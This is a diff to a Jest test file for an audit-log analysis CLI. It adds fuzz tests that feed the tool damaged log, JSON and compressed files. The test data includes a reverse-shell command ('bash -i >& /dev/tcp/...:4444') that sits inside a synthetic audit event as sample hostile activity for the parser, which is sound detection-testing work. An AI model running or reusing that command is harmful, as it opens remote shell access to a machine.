@@ -3,8 +3,10 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { describe, expect, test } from '@jest/globals';
+import fc from 'fast-check';
 import { withFiles } from '../io/files.js';
 import { runCli } from '../support/cli.js';
+import { ROUTES } from '../support/routes.js';
 
 const record = (serial: number, type: string, text: string): string =>
   `type=${type} msg=audit(1795234438.224:${serial}): ${text}\n`;
@@ -17,6 +19,10 @@ const event = (serial: number, command: string): string =>
   ) +
   record(serial, 'PROCTITLE', 'proctitle="sh"');
 const SHELL = 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1';
+const JSON_FILES = {
+  json: '{"@timestamp":1,"event":{"category":["process"]}}\n'.repeat(3),
+  array: '[\n{"@timestamp":1},\n{"@timestamp":2}\n]\n',
+};
 const PNG = Buffer.from('89504e470d0a1a0a', 'hex');
 
 describe('a mixed directory', () => {
@@ -66,6 +72,47 @@ describe('a mixed directory', () => {
       );
       expect(stderr).not.toContain('bad line');
     });
+  });
+});
+
+test('a text that is no log: one line of it, and how many there are', async () => {
+  await withFiles({ 'README.log': '# What\n\nis this?\n'.repeat(20) }, async (root) => {
+    const { stderr, code } = await runCli(['README.log'], { cwd: root });
+    expect(code).toBe(2);
+    expect(stderr.match(/RS\d+/g)).toEqual(['RS301', 'RS405', 'RS301']);
+    expect(stderr).toContain('none of 40 lines could be read');
+    expect(stderr).toContain('and 39 more RS301');
+  });
+});
+
+test('a directory of damaged files of every kind: no failure of ours, each file accounted for', async () => {
+  const text = event(3, SHELL) + record(4, 'USER_LOGIN', "pid=9 msg='op=login res=success'");
+  const ways = [...ROUTES.map(([, write]) => write(text)), JSON_FILES.json, JSON_FILES.array, ''];
+  const damaged = fc.tuple(
+    fc.constantFrom(...ways),
+    fc.nat({ max: 900 }),
+    fc.uint8Array({ maxLength: 9 }),
+  );
+  const some = fc.sample(damaged, { numRuns: 80, seed: 7 });
+  const contents = some.map(([whole, at, bytes]) =>
+    Buffer.concat([Buffer.from(whole.slice(0, at)), bytes, Buffer.from(whole.slice(at + 5))]),
+  );
+  const named = Object.fromEntries(contents.map((bytes, number) => [`${number}.log`, bytes]));
+  await withFiles(named, async (root) => {
+    const { stdout, stderr, code } = await runCli(['.', '-o', 'json', '--strict'], { cwd: root });
+    expect([1, 3, 4]).toContain(code);
+    expect(stderr).not.toContain('internal');
+    const { summary } = JSON.parse(stdout) as {
+      summary: {
+        inputs: { name: string; events: number; bad_lines: number; records: number | null }[];
+      };
+    };
+    expect(summary.inputs).toHaveLength(80);
+    for (const { name, events, bad_lines: bad, records } of summary.inputs) {
+      const content = contents[Number.parseInt(name, 10)] ?? Buffer.alloc(0);
+      const isEmpty = content.toString('latin1').trim() === '';
+      expect([name, isEmpty || events + bad + (records ?? 0) > 0]).toEqual([name, true]);
+    }
   });
 });
 
